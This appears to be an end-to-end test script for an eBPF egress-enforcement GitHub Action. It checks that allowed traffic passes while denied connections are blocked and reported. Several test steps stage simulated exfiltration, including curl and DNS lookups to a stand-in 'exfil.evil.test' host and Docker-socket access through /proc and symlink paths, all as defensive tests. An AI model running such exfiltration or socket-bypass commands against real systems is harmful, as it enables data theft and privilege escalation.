#!/usr/bin/env bash
# SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
#
# Tier 7, the GitHub Action: its entry points (deploy/github-action/main.js
# and post.js) run by node exactly as the runner runs them (INPUT_*,
# GITHUB_OUTPUT, GITHUB_STATE copied into STATE_* for post, GITHUB_ENV,
# GITHUB_STEP_SUMMARY, RUNNER_TEMP, GITHUB_WORKSPACE), from a stand-in for
# the runner's worker process (tests/action/worker.sh) in a cgroup of its
# own, whose later "steps" are real curl and dig against servers in a private
# network namespace, with a real dnsmasq as the upstream.
#
#   WEIR_BUILD=/abs/build bash tests/action/run.sh      (root)
#
# Nothing of the machine's own is touched: the action's root dir, socket,
# state and policies are in the test's temp dir (WEIR_ACTION_ROOT), its pins
# in /sys/fs/bpf/weir-acttest-PID (WEIR_ACTION_PIN_ROOT), its cgroups below
# <cgroup2>/weir-acttest-PID (the daemon's: WEIR_ACTION_DAEMON_CGROUP); the
# prebuilt build/weir is used (WEIR_ACTION_WEIR) except in the one case that
# takes the build path. The user with passwordless sudo is nobody, with a
# sudoers.d of this mount namespace's own (a bind mount over /etc/sudoers.d).

# shellcheck disable=SC2016 # step scripts: single quotes on purpose
E2E_NAME=action
E2E_TAP=1
# shellcheck source=tests/e2e/lib.sh
. "$(dirname "${BASH_SOURCE[0]}")/../e2e/lib.sh"
e2e_enter_ns "$0" "$@"
e2e_init

T=$E2E_TMP
TAG=weir-acttest-$$
CGP=$CG2/$TAG
PINS=/sys/fs/bpf/$TAG
ACT=$T/action
LOG=$T/sink.log
WORKER=$T/worker.sh # a copy: the job user must read it (a CI clone may be 0700)
JOB_TIMEOUT=90
N=0 # jobs run: each has its own dir, cgroups, root dir and pins

action_cleanup() {
	local f pid cg
	for f in "$T"/roots/*/daemon.pid; do
		[ -e "$f" ] || continue
		pid=$(cat "$f")
		# Ours only: the pid file is in our temp dir, and the process is a weir.
		[ "$(cat "/proc/$pid/comm" 2>/dev/null)" = weir ] && kill -KILL "$pid" 2>/dev/null
	done
	if [ -d "$CGP" ]; then
		for cg in $(find "$CGP" -mindepth 1 -type d | sort -r); do
			[ -e "$cg/cgroup.kill" ] && echo 1 >"$cg/cgroup.kill" 2>/dev/null
		done
		for ((i = 0; i < 50; i++)); do
			grep -qs '^populated 0' "$CGP/cgroup.events" && break
			sleep 0.1
		done
		find "$CGP" -depth -type d -exec rmdir {} + 2>/dev/null
	fi
	# podman on a hybrid host makes the container's parent in each v1
	# hierarchy too: ours by name.
	for cg in "$(dirname "$CG2")"/*/"$TAG"; do
		[ -d "$cg" ] && [ "$cg" != "$CGP" ] && find "$cg" -depth -type d -exec rmdir {} + 2>/dev/null
	done
	rm -rf "$PINS"-*
	e2e_cleanup
}
trap action_cleanup EXIT

command -v node >/dev/null || e2e_die "node not found (make deps: nodejs)"
command -v sudo >/dev/null || e2e_die "sudo not found (make deps)"

setup() {
	e2e_setup_lo 192.0.2.10/32 203.0.113.66/32 198.51.100.53/32 198.51.100.80/32
	e2e_start_sink sink --http "$LOG" 192.0.2.10:80 203.0.113.66:80 198.51.100.80:80
	e2e_start_dns api.allowed.test,192.0.2.10 exfil.evil.test,203.0.113.66
	mkdir -p "$CGP" || e2e_die "cannot make $CGP"
	# The action as a checkout of its own (GITHUB_ACTION_PATH), readable by
	# the job's user; weir from build/ next to it.
	mkdir -p "$ACT/build" && cp "$REPO_ROOT/action.yml" "$ACT/" &&
		cp -r "$REPO_ROOT/deploy" "$ACT/" && cp "$WEIR" "$ACT/build/weir" &&
		cp "$E2E_DIR/../action/worker.sh" "$WORKER" ||
		e2e_die "cannot copy the action"
	chmod -R a+rX "$T"
	# nobody gets passwordless sudo, in this mount namespace only.
	mkdir -p "$T/sudoers.d" && chmod 755 "$T/sudoers.d" &&
		printf 'nobody ALL=(ALL:ALL) NOPASSWD: ALL\n' >"$T/sudoers.d/nobody" &&
		chmod 440 "$T/sudoers.d/nobody" && mount --bind "$T/sudoers.d" /etc/sudoers.d ||
		e2e_die "cannot give nobody sudo in this mount namespace"
	setpriv --reuid=nobody --regid=nogroup --clear-groups -- sudo -n true ||
		e2e_die "sudo -n as nobody does not work here"
}

# job USER: a new job dir $J with its inputs/ and steps/, to fill before run_job.
# The action's root dir is $T/roots/N: root's, as the daemon insists (its
# state and policies must be in directories only root can change).
J=
job() {
	N=$((N + 1))
	J=$T/job-$N
	JUSER=$1
	mkdir -p "$J/inputs" "$J/steps" "$CGP/worker-$N"
	[ "$JUSER" = root ] || chown "$JUSER" "$J"
	JROOT=$T/roots/$N
	JENV=(WEIR_ACTION_ROOT="$JROOT" WEIR_ACTION_PIN_ROOT="$PINS-$N"
		WEIR_ACTION_DAEMON_CGROUP="/$TAG/daemon-$N" WEIR_ACTION_WEIR="$ACT/build/weir")
	input container-cgroup "/$TAG/containers-$N"
	JWRAP=()
}

input() { # NAME VALUE
	printf '%s' "$2" >"$J/inputs/$1"
}

step() { # NAME < SCRIPT
	cat >"$J/steps/$1.sh"
}

# run_job: the worker, main, the steps and post, bounded.
run_job() {
	chmod -R a+rX "$J"
	[ "$JUSER" = root ] || chown -R "$JUSER" "$J"
	timeout "$JOB_TIMEOUT" "${JWRAP[@]}" env "${JENV[@]}" WEIR_JOB="$N" bash "$WORKER" "$J" "$JUSER" "$CGP/worker-$N" "$ACT" \
		>"$J/worker.out" 2>&1 || t_why "the worker: exit $? ($(t_tail "$J/worker.out"))"
}

rc() { cat "$J/rc/$1" 2>/dev/null || echo none; }

x_rc_of() { # STEP WANT
	[ "$(rc "$1")" = "$2" ] || t_why "$1 exited $(rc "$1"), want $2 ($(t_tail "$J/out/$1" 4))"
}

x_out_has() { # STEP ERE
	grep -qE -- "$2" "$J/out/$1" 2>/dev/null || t_why "$1's output lacks /$2/ ($(t_tail "$J/out/$1" 4))"
}

x_summary_has() { # ERE
	grep -qE -- "$1" "$J/files/post/summary" 2>/dev/null ||
		t_why "the summary lacks /$1/ ($(t_tail "$J/files/post/summary" 6))"
}

output() { # NAME: the post step's output NAME
	sed -n "s/^$1=//p" "$J/files/post/output" | tail -1
}

# Every job: nothing left running, enforced or pinned once post has run.
x_torn_down() {
	local pid
	pid=$(cat "$JROOT/daemon.pid" 2>/dev/null)
	[ -n "$pid" ] && ! e2e_dead "$pid" && t_why "the daemon (pid $pid) still runs after post"
	compgen -G "$PINS-$N/att-*" >/dev/null &&
		t_why "attachments still pinned in $PINS-$N: $(ls "$PINS-$N")"
	return 0
}

# The steps of a job in block mode, each leaving a file that says what it saw.
block_steps() {
	step 01-allowed <<-'EOF'
		curl -sS --max-time 5 http://api.allowed.test/ >allowed.txt
	EOF
	step 02-denied <<-'EOF'
		curl -sS --max-time 5 "http://203.0.113.66/exfil-$WEIR_JOB" >denied.txt
	EOF
	step 03-refused-name <<-'EOF'
		dig +time=2 +tries=1 @127.0.0.53 exfil.evil.test >refused.txt
		grep -q 'status: REFUSED' refused.txt
	EOF
	# DNS over TCP, and to an address no resolver listens on: weir answers.
	step 04-dns-tcp-any-server <<-'EOF'
		dig +tcp +time=2 +tries=1 +short @198.51.100.53 api.allowed.test >tcp.txt
		grep -qx 192.0.2.10 tcp.txt
		dig +time=2 +tries=1 @198.51.100.53 exfil.evil.test >any.txt
		grep -q 'status: REFUSED' any.txt
	EOF
	step 05-child-cgroup <<-'EOF'
		# a step as root moves into a cgroup below the worker's: still enforced
		if [ "$(id -u)" = 0 ]; then
			cg=$(awk '/ - cgroup2 / { print $5; exit }' /proc/self/mountinfo)$(sed -n 's/^0:://p' /proc/self/cgroup)
			mkdir -p "$cg/sub" && sh -c 'echo $$ >"$1/cgroup.procs" && exec curl -sS --max-time 5 http://203.0.113.66/child' sh "$cg/sub" && exit 3
			exit 0
		fi
	EOF
}

test_block_as_root() {
	t_begin "block mode as root: later steps enforced; allowed works, denied fails, both reported; fail-on-deny fails post"
	job root
	input allow $'api.allowed.test:80\n# a comment\n'
	block_steps
	touch "$J/whole-seconds"
	run_job
	x_rc_of main 0
	x_out_has main 'enforcing the egress of every later step'
	x_rc_of 01-allowed 0
	grep -q '^ok$' "$J/workspace/allowed.txt" 2>/dev/null || t_why "the allowed request got no answer"
	x_rc_of 02-denied 7
	x_not_arrived "$LOG" "/exfil-$N|/child"
	x_rc_of 03-refused-name 0
	x_rc_of 04-dns-tcp-any-server 0
	x_rc_of 05-child-cgroup 0
	x_rc_of post 1
	x_out_has post "::error::weir denied tcp 203\\.0\\.113\\.66:80 by curl in step '02-denied, 05-child-cgroup'"
	x_out_has post '::error::weir: .* denied \(fail-on-deny\)'
	x_summary_has '^\*\*weir\*\* egress \(block\): [0-9]+ allowed, [0-9]+ denied'
	x_summary_has '^#### Denied'
	x_summary_has '^\| 203\.0\.113\.66 \| 80/tcp \| - \| curl \| 02-denied, 05-child-cgroup \| 2 \|$'
	x_summary_has '^\| exfil\.evil\.test \| dns \| exfil\.evil\.test \|'
	x_summary_has '^<details><summary>Allowed'
	x_summary_has '^\| 192\.0\.2\.10 \| 80/tcp \| api\.allowed\.test \| curl \|'
	x_summary_has '^  203\.0\.113\.66:80$'
	grep -q '192\.0\.2\.1[^0-9]' "$J/files/post/summary" && t_why "the canary is in the summary"
	[ "$(output denied)" -ge 4 ] 2>/dev/null || t_why "output denied is '$(output denied)', want >= 4"
	[ "$(output allowed)" -ge 1 ] 2>/dev/null || t_why "output allowed is '$(output allowed)', want >= 1"
	x_json "$(output events)" 'map(select(.attachment == "worker" and .verdict == "deny" and
		.dst == "203.0.113.66")) | length == 2'
	grep -q 'api.allowed.test' "$(output suggested-policy)" 2>/dev/null ||
		t_why "the suggested policy lacks api.allowed.test"
	grep -q '192.0.2.1"' "$(output suggested-policy)" 2>/dev/null && t_why "the suggested policy has the canary"
	x_torn_down
	t_end
}

test_audit_as_sudo_user() {
	t_begin "audit mode as a user with sudo: nothing denied, what would be is reported, post passes"
	job nobody
	input mode audit
	block_steps
	rm "$J/steps/05-child-cgroup.sh"
	run_job
	x_rc_of main 0
	x_rc_of 01-allowed 0
	x_rc_of 02-denied 0
	x_arrived "$LOG" "GET /exfil-$N "
	x_arrived "$LOG" 'tcp 192\.0\.2\.10:80 GET / '
	x_rc_of post 0
	x_summary_has '^\*\*weir\*\* egress \(audit\): [0-9]+ allowed, [0-9]+ would be denied'
	x_summary_has '^#### Would be denied'
	x_summary_has '^\| 203\.0\.113\.66 \| 80/tcp \| - \| curl \|'
	[ "$(output denied)" = 0 ] || t_why "output denied is '$(output denied)', want 0"
	[ "$(output would-deny)" -ge 2 ] 2>/dev/null || t_why "output would-deny is '$(output would-deny)'"
	x_out_has post '::warning::weir would deny tcp 203\.0\.113\.66:80'
	x_torn_down
	t_end
}

test_fail_on_deny_false() {
	t_begin "fail-on-deny: false: denials are reported, post passes (a root dir a job before used: its daemon's pid file left)"
	job nobody
	# The runner ran the action before: job 1's root dir, its daemon gone.
	[ -e "$T/roots/1/daemon.pid" ] || t_why "job 1 left no pid file to start over"
	JROOT=$T/roots/1
	JENV=("${JENV[@]/WEIR_ACTION_ROOT=*/WEIR_ACTION_ROOT=$JROOT}")
	input fail-on-deny false
	input summary compact
	step 01-denied <<-'EOF'
		curl -sS --max-time 5 http://203.0.113.66/ && exit 1
		exit 0
	EOF
	run_job
	x_rc_of main 0
	x_rc_of 01-denied 0
	x_rc_of post 0
	x_summary_has '^\| 203\.0\.113\.66 \| 80/tcp'
	grep -q '<details>' "$J/files/post/summary" && t_why "compact summary has the allowed <details>"
	[ "$(output denied)" = 1 ] || t_why "output denied is '$(output denied)', want 1"
	[ "$(output events)" = "$T/roots/1/events.jsonl" ] || t_why "output events is '$(output events)'"
	x_json "$T/roots/1/events.jsonl" 'map(select(.dst == "192.0.2.10")) | length == 0'
	x_torn_down
	t_end
}

test_setup_errors_fail_closed() {
	t_begin "setup errors fail the main step (block mode): bad allow line, bad policy file, no daemon, a canary let through"
	job root
	input allow $'api.allowed.test:80\nexample.com:99999\n'
	run_job
	x_rc_of main 1
	x_out_has main '::error::weir: input allow: line 2: ports must be 1 to 65535'
	[ -e "$J/rc/post" ] && [ "$(rc post)" != 0 ] && t_why "post failed after main refused its input"

	job root
	mkdir -p "$J/workspace"
	printf 'version: 1\nallow:\n  - domain: ok.test\n  - domian: typo.test\n' >"$J/workspace/egress.yaml"
	input policy egress.yaml
	step 01-never <<-'EOF'
		curl -sS --max-time 5 http://203.0.113.66/never
	EOF
	run_job
	x_rc_of main 1
	x_out_has main "repo-policy.inc:4:5: allow\[1\]: unknown key 'domian'"
	[ -e "$J/rc/01-never" ] && t_why "a step ran after main failed"

	job root
	input allow 'bad..name'
	run_job
	x_rc_of main 1
	x_out_has main "allow: line 1 \('bad\.\.name'\): "

	# The daemon cannot start (its pin root is not on a bpf file system).
	job root
	JENV+=(WEIR_ACTION_PIN_ROOT="$T/not-bpffs-$N")
	run_job
	x_rc_of main 1
	x_out_has main 'weir daemon did not start: .*not on a bpf file system'

	# A policy that lets the canary through: enforcement the action cannot
	# prove is a failed step, whatever attach said.
	job root
	input allow 192.0.2.1/32
	step 01-never <<-'EOF'
		curl -sS --max-time 5 http://203.0.113.66/never
	EOF
	run_job
	x_rc_of main 1
	x_out_has main 'canary: a connection to 192\.0\.2\.1:9 was not denied'
	[ -e "$J/rc/01-never" ] && t_why "a step ran after the canary got through"

	# In audit mode the same failure is a warning: nothing is enforced anyway.
	job root
	input mode audit
	JENV+=(WEIR_ACTION_PIN_ROOT="$T/not-bpffs-$N")
	run_job
	x_rc_of main 0
	x_out_has main '::warning::weir: weir daemon did not start'
	t_end
}

test_sudo_drop() {
	t_begin "sudo: drop: later steps lose sudo, enforcement stays; post reports without root"
	job nobody
	input sudo drop
	input fail-on-deny false
	step 01-no-sudo <<-'EOF'
		sudo -n true && exit 1
		exit 0
	EOF
	step 02-denied <<-'EOF'
		curl -sS --max-time 5 http://203.0.113.66/after-drop && exit 1
		exit 0
	EOF
	run_job
	x_rc_of main 0
	x_rc_of 01-no-sudo 0
	x_rc_of 02-denied 0
	x_not_arrived "$LOG" 'after-drop'
	x_rc_of post 0
	x_out_has post 'no root left'
	x_summary_has '^\| 203\.0\.113\.66 \| 80/tcp'
	rm -f /etc/sudoers.d/zzzz-weir-drop # the namespace's own sudoers.d
	t_end
}

# dockerd's socket (docs/github-action.md, "sudo: keep and drop"): on a
# runner the job's user may reach it, and through it root. With sudo kept
# the job policy opens it (it gives nothing sudo does not); with sudo
# dropped weir's built-in unix list keeps refusing it (Linux 6.7+). No
# dockerd runs here: the job runs in a mount namespace of its own whose
# /run/docker.sock is a stand-in answering the Engine API's handshake as
# dockerd does (tests/action/dockerns.sh), which logs what reaches it. The
# docker CLI is used where it is installed; curl speaks the same API always.
docker_steps() {
	step 01-docker-var-run <<-'EOF'
		curl -sS --max-time 5 --unix-socket /var/run/docker.sock "http://docker/_ping?job=$WEIR_JOB" >ping.txt
		grep -qx OK ping.txt
	EOF
	step 02-docker-run <<-'EOF'
		curl -sS --max-time 5 --unix-socket /run/docker.sock "http://docker/v1.47/version?job=$WEIR_JOB" >version.txt
		grep -q '"Version": "stand-in"' version.txt
	EOF
	step 03-docker-cli <<-'EOF'
		command -v docker >/dev/null || { echo "no docker CLI here"; exit 0; }
		export DOCKER_CONFIG=$PWD/.docker
		docker version --format '{{.Server.Version}}' >cli.txt
		grep -qx stand-in cli.txt
	EOF
}

# Other spellings of the same socket: a cgroup unix hook judges the path as
# given, so without the BPF LSM these reach it unless its mode stops them.
docker_other_paths() {
	step 04-docker-proc-root <<-'EOF'
		curl -sS --max-time 5 --unix-socket /proc/self/root/run/docker.sock "http://docker/_ping?job=$WEIR_JOB&via=proc"
	EOF
	step 05-docker-symlink <<-'EOF'
		ln -s /run/docker.sock "$PWD/d.sock" &&
			curl -sS --max-time 5 --unix-socket "$PWD/d.sock" "http://docker/_ping?job=$WEIR_JOB&via=link"
	EOF
}

docker_job() { # SUDO
	job nobody
	input sudo "$1"
	input fail-on-deny false
	mkdir -p "$T/dockerns-$N"
	DLOG=$T/dockerd-$N.log
	JWRAP=(bash "$E2E_DIR/../action/dockerns.sh" "$T/dockerns-$N" "$DLOG" "$((JOB_TIMEOUT + 10))")
	docker_steps
	[ "$1" = drop ] && docker_other_paths
	run_job
	x_rc_of main 0
}

test_docker_kept() {
	t_begin "sudo: keep: dockerd's socket is reachable from later steps (/var/run and /run, curl and docker)"
	docker_job keep
	x_rc_of 01-docker-var-run 0
	x_rc_of 02-docker-run 0
	x_rc_of 03-docker-cli 0
	grep -q "^GET /_ping?job=$N uid=65534\$" "$DLOG" || t_why "the stand-in saw no ping: $(t_tail "$DLOG")"
	grep -q "^GET /v1.47/version?job=$N uid=65534\$" "$DLOG" || t_why "no version request: $(t_tail "$DLOG")"
	x_rc_of post 0
	x_torn_down
	t_end
}

test_docker_dropped() {
	if [ "$("$WEIR" status --json | jq -r .kernel.unix_hooks)" != true ]; then
		t_ok "sudo: drop and dockerd's socket: skipped (no cgroup unix hooks before Linux 6.7: $(uname -r); docs/github-action.md)"
		return
	fi
	t_begin "sudo: drop: dockerd's socket is refused to later steps by every path (/proc/self/root, a symlink: made root's alone), nothing reaches it"
	docker_job drop
	x_rc_of 01-docker-var-run 7
	x_rc_of 02-docker-run 7
	command -v docker >/dev/null && x_rc_of 03-docker-cli 1
	x_rc_of 04-docker-proc-root 7
	x_rc_of 05-docker-symlink 7
	x_out_has main 'sudo: drop: /run/docker.sock is root.s alone now'
	[ -s "$DLOG" ] && t_why "requests reached the stand-in: $(t_tail "$DLOG")"
	x_out_has 01-docker-var-run 'Couldn.t connect|Permission denied|Operation not permitted'
	x_rc_of post 0
	rm -f /etc/sudoers.d/zzzz-weir-drop # the namespace's own sudoers.d
	t_end
}

test_canary_catches_an_unenforced_step() {
	t_begin "a main step outside the worker's cgroup fails (the worker is found by name, then its cgroup)"
	job root
	# The worker's cgroup is attached, but main runs in a sibling cgroup
	# (as if the runner had moved it): it must refuse, not pass unenforced.
	mkdir -p "$CGP/elsewhere-$N"
	cat >"$J/inputs/../wrap.sh" <<-EOF
		echo \$\$ >"$CGP/elsewhere-$N/cgroup.procs" && exec node "\$@"
	EOF
	mkdir -p "$J/bin" && printf '#!/bin/sh\nexec sh %s "$@"\n' "$J/wrap.sh" >"$J/bin/node" &&
		chmod +x "$J/bin/node"
	JENV+=(PATH="$J/bin:$PATH")
	sed -i "s|exec node|exec $(command -v node)|" "$J/wrap.sh"
	run_job
	x_rc_of main 1
	x_out_has main 'outside the worker.s cgroup'
	t_end
}

test_hosted_runner_keeps_enforcing() {
	local i pid
	t_begin "a GitHub-hosted runner: post reports but does not detach; what a step left running stays enforced"
	job root
	JENV+=(RUNNER_ENVIRONMENT=github-hosted)
	input fail-on-deny false
	step 01-leave-one-behind <<-'EOF'
		(for ((i = 0; i < 300; i++)); do [ -e ../after-post ] && break; sleep 0.1; done
		 curl -sS --max-time 5 http://203.0.113.66/left-behind || true; touch ../left-behind.done) >/dev/null 2>&1 &
	EOF
	run_job
	x_rc_of main 0
	x_rc_of post 0
	x_out_has post 'enforcement stays until the machine goes away'
	pid=$(cat "$JROOT/daemon.pid" 2>/dev/null)
	{ [ -n "$pid" ] && ! e2e_dead "$pid"; } || t_why "the daemon is gone after post"
	touch "$J/after-post"
	for ((i = 0; i < 100; i++)); do
		[ -e "$J/left-behind.done" ] && break
		sleep 0.1
	done
	[ -e "$J/left-behind.done" ] || t_why "the process left behind did not try"
	x_not_arrived "$LOG" '/left-behind'
	# Ours to end (on GitHub the machine goes): the daemon, with its pins.
	[ -n "$pid" ] && kill -TERM "$pid" && e2e_wait_gone "$pid" 100
	t_end
}

# A server that keeps a connection open as long as its client does (the
# sink drops every connection after 5 s, shorter than main can take on a
# loaded machine): one line in, logged, "ok" back.
start_holder() {
	local i
	[ -e "$T/holder.out" ] && return 0
	python3 -c '
import socket, sys
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("198.51.100.80", 81))
s.listen()
print("ready", flush=True)
while True:
    c, _ = s.accept()
    f = c.makefile("rwb")
    line = f.readline()
    with open(sys.argv[1], "ab") as log:
        log.write(line)
    f.write(b"ok\n")
    f.flush()
    c.close()
' "$T/holder.log" >"$T/holder.out" 2>&1 &
	E2E_PIDS+=("$!")
	for ((i = 0; i < 50; i++)); do
		grep -qs '^ready$' "$T/holder.out" && return 0
		sleep 0.1
	done
	e2e_die "the holding server did not start: $(cat "$T/holder.out")"
}

test_open_connections_kept() {
	t_begin "a connection the worker's cgroup had open before the step keeps working (its peer allowed by address)"
	start_holder
	job root
	input fail-on-deny false
	cat >"$J/before.sh" <<-'EOF'
		exec 3<>/dev/tcp/198.51.100.80/81 || exit 1
		echo connected >"$(dirname "$0")/before.connected"
		for ((i = 0; i < 300; i++)); do
			[ -e "$(dirname "$0")/go" ] && break
			sleep 0.1
		done
		printf 'GET /kept-open HTTP/1.0\r\n\r\n' >&3
		timeout 5 cat <&3 >"$(dirname "$0")/before.reply"
	EOF
	step 01-wait-for-it <<-'EOF'
		touch ../go
		for ((i = 0; i < 60; i++)); do
			grep -q '^ok$' ../before.reply 2>/dev/null && exit 0
			sleep 0.1
		done
		exit 1
	EOF
	step 02-new-ones-denied <<-'EOF'
		curl -sS --max-time 5 http://203.0.113.66/new && exit 1
		exit 0
	EOF
	run_job
	x_rc_of main 0
	x_out_has main '1 connection\(s\) open before this step kept'
	grep -q '# open before the weir step: [a-z]* pid' "$T/roots/$N/policies/job.yaml" ||
		t_why "the job policy has no rule for the open connection"
	x_rc_of 01-wait-for-it 0
	x_arrived "$T/holder.log" 'GET /kept-open'
	x_json "$T/roots/$N/events.jsonl" 'map(select(.dst == "198.51.100.80" and .verdict != "allow")) | length == 0'
	x_rc_of 02-new-ones-denied 0
	x_rc_of post 0
	t_end
}

# A real container (podman, runc, a busybox root file system made here) in
# the containers' parent cgroup, as dockerd's --cgroup-parent puts a job's
# containers on GitHub's runners; host network, so that its DNS reaches weir.
test_container() {
	local bb pm
	bb=$(command -v busybox) pm=$(command -v podman)
	if [ -z "$pm" ] || [ -z "$bb" ] || ! ldd "$bb" 2>&1 | grep -q 'not a dynamic executable'; then
		echo "ok - a container below the containers' cgroup is enforced # SKIP needs podman and busybox-static (make deps)"
		return
	fi
	t_begin "a container (podman, runc) below the containers' cgroup is enforced and reported"
	mkdir -p "$T/rootfs/bin" "$T/rootfs/etc" && cp "$bb" "$T/rootfs/bin/busybox" &&
		ln -sf busybox "$T/rootfs/bin/sh" && ln -sf busybox "$T/rootfs/bin/wget" &&
		ln -sf busybox "$T/rootfs/bin/nslookup" ||
		e2e_die "cannot make the container's root file system"
	job root
	input fail-on-deny false
	input allow api.allowed.test:80
	step 01-container <<-'EOF'
		pm() {
			podman --root @T@/podman/root --runroot @T@/podman/run --tmpdir @T@/podman/tmp \
				--events-backend none --cgroup-manager cgroupfs run --rm --network host \
				--ulimit nofile=1024:1024 --ulimit nproc=1024:1024 \
				--cgroup-parent @CG@ --rootfs @T@/rootfs "$@"
		}
		# busybox's own resolver (nslookup) asks weir's, which learns the
		# name's address; wget by address and port (a static wget looking a
		# name or a service up through glibc's NSS crashes without libc, and so
		# does its -T here).
		pm /bin/sh -c 'nslookup api.allowed.test && wget -q -O - http://192.0.2.10:80/' >container-allowed.txt
		if pm /bin/wget -q -O - http://203.0.113.66:80/from-container; then exit 1; fi
		pm /bin/nslookup exfil.evil.test && exit 1
		exit 0
	EOF
	sed -i "s|@T@|$T|g; s|@CG@|/$TAG/containers-$N|g" "$J/steps/01-container.sh"
	run_job
	x_rc_of main 0
	x_rc_of 01-container 0
	grep -qx 'ok' "$J/workspace/container-allowed.txt" 2>/dev/null ||
		t_why "the container's allowed request got no answer ($(t_tail "$J/out/01-container"))"
	x_not_arrived "$LOG" '/from-container'
	x_json "$T/roots/$N/events.jsonl" 'map(select(.attachment == "containers" and .verdict == "deny" and
		.dst == "203.0.113.66" and .comm == "wget")) | length >= 1'
	x_summary_has '^\| 203\.0\.113\.66 \| 80/tcp \| - \| wget \|'
	x_summary_has '^\| exfil\.evil\.test \| dns \| exfil\.evil\.test \| nslookup \|'
	x_rc_of post 0
	x_torn_down
	t_end
}

# The build path, cheaply: GITHUB_ACTION_PATH is a copy of this tree whose
# build/ holds the objects already built (their times kept), so main's real
# `make deps-build` (nothing missing: no apt-get) and `make` only rewrite
# version.h (no .git in the copy) and relink weir, in seconds.
test_build_path() {
	local src=$T/src
	t_begin "without WEIR_ACTION_WEIR, main builds weir in GITHUB_ACTION_PATH (make deps-build, make) and uses it"
	mkdir -p "$src/build" &&
		tar -C "$REPO_ROOT" --exclude=./build --exclude=./.git --exclude='./bench/results/*' -cf - . |
		tar -C "$src" -xf - &&
		cp -a "$WEIR_BUILD"/bpf "$WEIR_BUILD"/user "$WEIR_BUILD"/*.skel.h "$WEIR_BUILD"/libweir.a \
			"$WEIR_BUILD"/version.h "$WEIR_BUILD"/weir "$src/build/" || e2e_die "cannot copy the tree"
	cp "$WEIR_BUILD/weir" "$T/weir-before"
	job root
	JENV=("${JENV[@]/WEIR_ACTION_WEIR=*/WEIR_ACTION_WEIR=}")
	input fail-on-deny false
	step 01-denied <<-'EOF'
		curl -sS --max-time 5 http://203.0.113.66/built && exit 1
		exit 0
	EOF
	ACT_SAVE=$ACT
	ACT=$src
	run_job
	ACT=$ACT_SAVE
	x_rc_of main 0
	x_out_has main "building weir in $src"
	x_rc_of 01-denied 0
	x_not_arrived "$LOG" '/built'
	cmp -s "$src/build/weir" "$T/weir-before" && t_why "make did not rebuild weir (version.h unchanged?)"
	grep -qx "weir=$src/build/weir" "$J/files/main/state" ||
		t_why "main's state does not name $src/build/weir: $(grep '^weir=' "$J/files/main/state")"
	x_rc_of post 0
	x_torn_down
	t_end
}

setup
test_block_as_root
test_audit_as_sudo_user
test_fail_on_deny_false
test_setup_errors_fail_closed
test_sudo_drop
test_docker_kept
test_docker_dropped
test_canary_catches_an_unenforced_step
test_open_connections_kept
test_hosted_runner_keeps_enforcing
test_container
test_build_path
echo "$T_PASS passed, $T_FAIL failed"
((T_FAIL == 0))
